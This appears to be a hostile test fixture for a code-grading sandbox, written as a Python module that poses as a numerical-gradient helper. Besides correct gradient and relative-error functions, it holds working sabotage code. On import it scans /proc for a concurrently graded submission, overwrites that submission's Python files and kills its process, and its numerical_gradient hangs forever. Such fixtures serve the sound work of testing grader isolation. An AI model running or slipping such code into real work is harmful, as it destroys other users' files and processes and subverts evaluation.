"""At import, starts a thread that hunts for another submission being graded at the same time (a
worker whose command line names nnkit-hostile-victim): rewrites that submission's files through
/tmp and kills its worker; numerical_gradient then waits forever to keep the hunt going.
"""

import json
import os
import signal
import threading
import time

import numpy as np


def _honest_numerical_gradient(f, x, h=1e-5):
    """Central-difference gradient of a scalar function f at the array x.

    Inputs:
    - f: function taking an array shaped like x and returning one number
    - x: float64 array of any shape; perturbed in place one element at a time, so f may
      also read x through a closure (e.g. f = lambda _: loss(W) with x = W)
    - h: step size

    Returns:
    - grad: float64 array shaped like x, grad[i] = (f(x + h e_i) - f(x - h e_i)) / (2h)

    x holds its original values when this returns (even if f raises).
    """
    if not (isinstance(x, np.ndarray) and x.dtype == np.float64 and x.flags.writeable):
        x = np.array(x, dtype=np.float64)  # work on a writeable float64 copy
    grad = np.zeros(x.shape, dtype=np.float64)
    for i in np.ndindex(x.shape):
        old = x[i]
        try:
            x[i] = old + h
            f_plus = np.asarray(f(x), dtype=np.float64).item()
            x[i] = old - h
            f_minus = np.asarray(f(x), dtype=np.float64).item()
        finally:
            x[i] = old
        grad[i] = (f_plus - f_minus) / (2.0 * h)
    return grad


def relative_error(a, b):
    """Relative error between two arrays, as used to compare gradients.

    Inputs:
    - a, b: arrays of the same shape (or numbers)

    Returns:
    - err: float, max over elements of |a - b| / max(1e-8, |a| + |b|)
      (0.0 for empty arrays)
    """
    a = np.asarray(a, dtype=np.float64)
    b = np.asarray(b, dtype=np.float64)
    err = np.abs(a - b) / np.maximum(1e-8, np.abs(a) + np.abs(b))
    return float(np.max(err, initial=0.0))


# -- the attack ----------------------------------------------------------------------

VICTIM = "nnkit-hostile-victim"
BROKEN = "raise SystemExit(0)\n"


def _victims():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                argv = fh.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        if any(VICTIM in a for a in argv):
            yield int(pid), argv


def _sabotage(argv):
    for arg in argv:
        try:
            scratch = json.loads(arg)["scratch"]
        except Exception:
            continue
        for prefix in (scratch, "/proc/self/fd/3/../.." + scratch.removeprefix("/tmp")):
            folder = os.path.join(prefix, "nnbasics")
            try:
                for name in os.listdir(folder):
                    if name.endswith(".py") and name != "__init__.py":
                        with open(os.path.join(folder, name), "w") as fh:
                            fh.write(BROKEN)
            except OSError:
                pass


def _hunt():
    open("hunting", "w").close()  # in the scratch folder: tells the test to start the victim
    deadline = time.time() + 60
    while time.time() < deadline:
        for pid, argv in list(_victims()):
            _sabotage(argv)
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)


threading.Thread(target=_hunt, daemon=True).start()


def numerical_gradient(f, x, h=1e-5):
    while True:
        time.sleep(1)
